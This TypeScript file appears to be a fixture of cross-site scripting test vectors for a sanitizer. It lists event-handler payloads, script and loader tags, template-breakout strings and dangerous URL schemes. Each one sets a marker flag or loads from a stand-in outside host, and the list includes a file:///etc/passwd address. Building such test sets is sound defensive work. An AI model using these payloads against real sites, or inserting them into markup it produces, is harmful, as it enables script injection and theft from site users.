// Texts that run a script, load something or lead astray wherever they are taken for markup. Each sets `window.__pwned` or
// asks another host for something.

/** What a script of a ledger would do. */
const RUN = "window.__pwned=1";
/** A host that is not the site's. */
const OUT = "https://out.invalid";

/** The handlers that run without anybody doing anything, or on the least occasion. */
const HANDLERS = [
  `<img src=x onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<IMG SRC=x OnErRoR=${RUN}>`,
  `<img src=x onerror\n=\n"${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributename=x dur=1s>`,
  `<body onload=${RUN}>`,
  `<video><source onerror=${RUN}>`,
  `<video src=x onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<p onmouseover=${RUN}>x</p>`,
  `<a href=x onpointerover=${RUN}>x</a>`,
  `<iframe onload=${RUN}></iframe>`,
  `<object data=x onerror=${RUN}></object>`,
  `<div popover id=pop onbeforetoggle=${RUN}>x</div><button popovertarget=pop>x</button>`,
  `<style onload=${RUN}></style>`,
  `<xss contenteditable tabindex=1 onfocus=${RUN} autofocus>x</xss>`,
];

/** Elements that run or load by themselves. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script/x>${RUN}</script>`,
  `<script src=${OUT}/a.js></script>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<script type=module>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext></mtext><script>${RUN}</script></math>`,
  `<iframe src=javascript:${RUN}></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<embed src=javascript:${RUN}>`,
  `<object data=javascript:${RUN}></object>`,
  `<link rel=stylesheet href=${OUT}/a.css>`,
  `<link rel=preload as=image href=${OUT}/a.png>`,
  `<link rel=dns-prefetch href=${OUT}>`,
  `<meta http-equiv=refresh content="0;url=${OUT}/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href=${OUT}/>`,
  `<style>@import '${OUT}/a.css';</style>`,
  `<style>*{background:url(${OUT}/a.png)}</style>`,
  `<img src=${OUT}/a.png>`,
  `<img srcset="${OUT}/a.png 1x">`,
  `<picture><source srcset=${OUT}/a.png><img></picture>`,
  `<video poster=${OUT}/a.png></video>`,
  `<input type=image src=${OUT}/a.png>`,
  `<form action=${OUT}/><button>x</button></form>`,
  `<table background=${OUT}/a.png><td>x</td></table>`,
  `<div style="background:url(${OUT}/a.png)">x</div>`,
  `<svg><image href=${OUT}/a.png></image></svg>`,
  `<svg><use href=${OUT}/a.svg#x></use></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
];

/** Ways out of what a template puts around a text. */
const BREAKOUTS = [
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `" onmouseover=${RUN} x="`,
  `' onmouseover=${RUN} x='`,
  `" autofocus onfocus=${RUN} x="`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</code></pre><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `\u0000<script>${RUN}</script>`,
  `\u2028<script>${RUN}</script>`,
  `＜script＞${RUN}＜/script＞<script>${RUN}</script>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\<img src=x onerror=${RUN}\\>`,
  `{{ "<script>${RUN}</script>" | safe }}`,
  `{% raw %}<script>${RUN}</script>{% endraw %}`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `javascript:${RUN}`,
  `__proto__`,
];

/** Addresses that run, or that leave without saying so. */
export const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#10;script:${RUN}`,
  `java&Tab;script:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript:${RUN}`,
  `javascript:%77indow.__pwned=1`,
  `javascript://%0a${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX19wd25lZD0xPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `blob:${OUT}/x`,
  `file:///etc/passwd`,
  `//out.invalid/x`,
  `\\\\out.invalid/x`,
  `/\\out.invalid/x`,
  `view-source:${OUT}`,
  `intent://x#Intent;end`,
  `feed:javascript:${RUN}`,
];

/** Every text, each once. */
export const VECTORS: readonly string[] = [...new Set([...HANDLERS, ...ELEMENTS, ...BREAKOUTS, ...ADDRESSES])];
